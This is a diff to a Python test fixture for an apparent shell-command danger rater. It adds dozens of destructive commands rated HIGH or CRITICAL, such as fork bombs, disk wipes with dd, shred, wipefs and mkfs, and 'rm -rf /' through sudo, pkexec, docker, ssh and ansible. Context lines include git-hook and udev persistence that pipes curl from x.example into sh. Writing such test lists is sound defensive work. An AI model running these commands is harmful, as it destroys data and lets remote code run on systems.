@@ -1203,6 +1203,81 @@ ROUND5_BENIGN = [
     ("sudo systemctl enable --now docker", MODERATE),
 ]
 
+# -- a sixth round: the running system, disks, resources, and more wrappers --
+
+ROUND6 = [
+    ("systemctl stop NetworkManager", HIGH),
+    ("echo 1 > /sys/block/sda/device/delete", CRITICAL),
+    ("echo offline > /sys/block/sda/device/state", HIGH),
+    ("sysctl -w net.ipv4.conf.all.rp_filter=0", HIGH),
+    ("modprobe -r nvme", HIGH),
+    ("systemctl mask sshd", HIGH),
+    ("systemctl disable --now systemd-journald", HIGH),
+    ("kill -STOP 1", CRITICAL),
+    ("kill -TERM -1", HIGH),
+    ("killall -u alice", HIGH),
+    ("bash -c 'while :; do bash & done'", CRITICAL),
+    ("for i in {1..1000000}; do sleep 100 & done", HIGH),
+    ("yes > /dev/sda", CRITICAL),
+    ("dd if=/dev/urandom of=/dev/sda &", CRITICAL),
+    ("nohup dd if=/dev/zero of=/dev/sdb &", CRITICAL),
+    ("cat /dev/zero > /dev/shm/fill", HIGH),
+    ("fallocate -l 64G /dev/shm/x", HIGH),
+    ('python3 -c \'open("/tmp/f", "wb").write(b"0" * 10**12)\'', HIGH),
+    ("while true; do mkdir x && cd x; done", HIGH),
+    ("seq inf | xargs -P0 -I{} sleep 100", CRITICAL),
+    ("ulimit -u unlimited && :(){ :|:& };:", CRITICAL),
+    ("dd if=/dev/zero of=/dev/sda count=1 bs=512 seek=0", CRITICAL),
+    ("echo -e 'd\\n1\\nw' | fdisk /dev/sda", CRITICAL),
+    ("gdisk /dev/sda <<< $'o\\ny\\nw\\ny\\n'", CRITICAL),
+    ("sfdisk --delete /dev/sda 1", CRITICAL),
+    ("wipefs --all --backup /dev/sda", CRITICAL),
+    ("mke2fs -t ext4 -F /dev/vdb1", CRITICAL),
+    ("mkfs.ntfs -Q /dev/sdc1", CRITICAL),
+    ("btrfs subvolume delete /mnt/@home", HIGH),
+    ("lvremove -y /dev/ubuntu-vg/ubuntu-lv", CRITICAL),
+    ("cryptsetup luksErase /dev/sda3", CRITICAL),
+    ("dmsetup remove_all --force", HIGH),
+    ("hdparm --yes-i-know-what-i-am-doing --security-erase NULL /dev/sda", CRITICAL),
+    ("nvme format /dev/nvme0n1 --ses=1", CRITICAL),
+    ("blkdiscard /dev/sda1", CRITICAL),
+    ("sudo dd if=/dev/zero of=/dev/sda bs=1M count=10", CRITICAL),
+    ("sudo shred -v /dev/sdb", CRITICAL),
+    ("cat /dev/urandom | sudo dd of=/dev/sdc bs=1M", CRITICAL),
+    ("docker run --rm -v /:/host alpine rm -rf /host/etc", CRITICAL),
+    ("sudo chroot /mnt rm -rf /", HIGH),
+    ("watch -n 60 'rm -rf ~/Documents/*'", CRITICAL),
+    ("busybox rm -rf /", CRITICAL),
+    ("env -i /bin/rm -rf --no-preserve-root /", CRITICAL),
+    ("xargs rm -rf <<< '/etc /usr'", CRITICAL),
+    ("timeout 5s sudo rm -rf /var/lib", CRITICAL),
+    ("sudo -u postgres rm -rf /var/lib/postgresql/14/main", CRITICAL),
+    ("su -c 'rm -rf /etc'", CRITICAL),
+    ("runuser -u root -- rm -rf /boot", CRITICAL),
+    ("pkexec rm -rf /usr", CRITICAL),
+    ("ssh root@db1 'rm -rf /var/lib/mysql'", CRITICAL),
+    ("kubectl exec deploy/api -- sh -c 'rm -rf /app/data/*'", HIGH),
+    ("ansible all -m shell -a 'rm -rf /tmp/../etc'", CRITICAL),
+]
+
+ROUND6_BENIGN = [
+    ("sudo fdisk -l | grep sda", SAFE),
+    ("sudo dd if=/dev/sda bs=512 count=1 | xxd", MODERATE),
+    ("sudo blkid /dev/sda1", MODERATE),
+    ("lsblk -f", SAFE),
+    ("sudo smartctl -t short /dev/sda", MODERATE),
+    ("sudo sysctl fs.inotify.max_user_watches=524288", MODERATE),
+    ("ulimit -n 4096", MODERATE),
+    ("nproc", SAFE),
+    ("stress-ng --cpu 2 --timeout 30s", MODERATE),
+    ("systemctl status NetworkManager", SAFE),
+    ("sudo systemctl restart NetworkManager", MODERATE),
+    ("docker run --rm -v $(pwd):/src alpine ls /src", MODERATE),
+    ("ssh host 'rm -rf ~/tmp/build'", MODERATE),
+    ("watch -n 5 df -h", SAFE),
+    ("sudo -u www-data rm -rf /var/www/cache/*", MODERATE),
+]
+
 DANGEROUS = [
     *WRAPPED,
     *FS_DELETE,
@@ -1224,6 +1299,7 @@ DANGEROUS = [
     *ROUND3,
     *ROUND4,
     *ROUND5,
+    *ROUND6,
 ]
 
 # -- near misses: the same tools, harmless ---------------------------------------------------------
@@ -1476,6 +1552,7 @@ BENIGN += MORE_BENIGN
 BENIGN += ROUND3_BENIGN
 BENIGN += ROUND4_BENIGN
 BENIGN += ROUND5_BENIGN
+BENIGN += ROUND6_BENIGN
 
 
 # Cases the rater does not meet yet: each fails today (strict xfail), so fixing one shows.
@@ -1496,6 +1573,9 @@ KNOWN_GAPS: frozenset[str] = frozenset(
         "apt-get purge -y libc6",
         "git config --global core.hooksPath ~/.hooks && printf '#!/bin/sh\\ncurl -s x.example/h|sh\\n' > ~/.hooks/pre-commit",  # noqa: E501
         "echo 'ACTION==\"add\", RUN+=\"/bin/sh -c \\'curl x.example/u|sh\\'\"' | sudo tee /etc/udev/rules.d/10-x.rules",  # noqa: E501
+        "dmsetup remove_all --force",
+        "kubectl exec deploy/api -- sh -c 'rm -rf /app/data/*'",
+        "ansible all -m shell -a 'rm -rf /tmp/../etc'",
         "git clean -fd",
         "echo 'make test' | at now + 1 hour",
     )
